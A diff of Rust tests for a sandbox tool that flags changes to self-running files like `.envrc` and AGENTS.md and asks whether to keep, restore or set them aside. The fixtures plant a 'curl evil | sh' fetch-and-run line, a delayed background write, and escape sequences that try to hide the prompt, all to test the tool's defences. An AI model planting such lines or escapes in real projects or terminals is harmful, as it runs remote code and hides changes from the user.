@@ -43,8 +43,14 @@ fn what_acts_by_itself_is_kept_where_nobody_says_otherwise_and_put_back_where_so
     told(&run);
     assert!(run.stderr.contains("is kept, because nobody could be asked"), "{}", run.stderr);
     assert_eq!(fs::read_to_string(at(".envrc")).expect("it"), "export A=1\ncurl evil | sh\n");
+    // Until somebody decides it is named, by each call.
     let run = sandbox.enter(["--version"]).ok();
-    assert!(!run.stderr.contains("`.envrc`"), "told once: {}", run.stderr);
+    assert!(run.stderr.contains("and is undecided: `.envrc` changed"), "{}", run.stderr);
+    let status = sandbox.task("status").run().ok();
+    assert!(status.stdout.contains("undecided     `.envrc` changed"), "{}", status.stdout);
+    sandbox.task("sandbox").args(["--yes", "--on-change", "keep", "--", "--version"]).run().ok();
+    let run = sandbox.enter(["--version"]).ok();
+    assert!(!run.stderr.contains("`.envrc`"), "it is decided: {}", run.stderr);
 
     // The user's own changes between two sessions are told, and not asked about.
     fs::write(at(".envrc"), "export B=2\n").expect("a file");
@@ -74,7 +80,7 @@ fn what_is_new_is_set_aside_at_the_exit_and_by_down() {
     let run = left(&sandbox, &["--on-change", "aside"]);
     told(&run);
     assert!(!at(".envrc").exists() && at(".envrc.set-aside-1").exists() && !at("CLAUDE.md").exists());
-    assert!(at("a/b/.claude/settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists());
+    assert!(at("codex-sandbox-set-aside/settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists());
     let late = "setsid sh -c 'until [ -e go ]; do sleep 0.1; done; echo x >AGENTS.md; touch done' >/dev/null 2>&1 </dev/null &\n";
     sandbox.task("sandbox").args(["--yes", "--shell"]).stdin(late).run().ok();
     fs::write(at("go"), "").expect("a sign");
@@ -91,11 +97,25 @@ fn a_terminal_asks_and_an_answer_restores() {
     terminal.shows("Enter a shell? [Y/n]", 180);
     terminal.press("Enter");
     terminal.shows("$ ", 20);
-    terminal.types("echo evil >>.envrc; exit");
+    // What would hide the question: the other screen, hidden letters, a terminal that reports the mouse.
+    terminal.types("printf '\\033[?1049h\\033[?1003h\\033[2;3r\\033[8m'; echo evil >>.envrc; exit");
     terminal.press("Enter");
-    terminal.shows("Keep what acts by itself, restore what was there, or set it aside? [K/r/a]", 60);
+    let question = "Keep what acts by itself, restore what was there, or set it aside? [K/r/a]";
+    terminal.shows(question, 60);
+    assert_eq!(terminal.format("#{alternate_on} #{mouse_any_flag} #{scroll_region_upper}"), "0 0 0");
+    // Without an answer it is asked again, at the next entry.
+    terminal.press("C-c");
+    assert_eq!(terminal.ended(20), 130);
+    let status = sandbox.task("status").run().ok();
+    assert!(status.stdout.contains("undecided     `.envrc` changed"), "{}", status.stdout);
+    let terminal = Terminal::open(&sandbox.place, sandbox.task("sandbox").args(["--shell"]));
+    terminal.shows(question, 60);
     terminal.types("r");
     terminal.press("Enter");
     terminal.shows("`.envrc` is what it was", 20);
+    terminal.shows("Enter a shell? [Y/n]", 60);
+    terminal.types("n");
+    terminal.press("Enter");
+    assert_eq!(terminal.ended(20), 0);
     assert_eq!(fs::read_to_string(sandbox.workspace().join(".envrc")).expect("it"), "export A=1\n");
 }
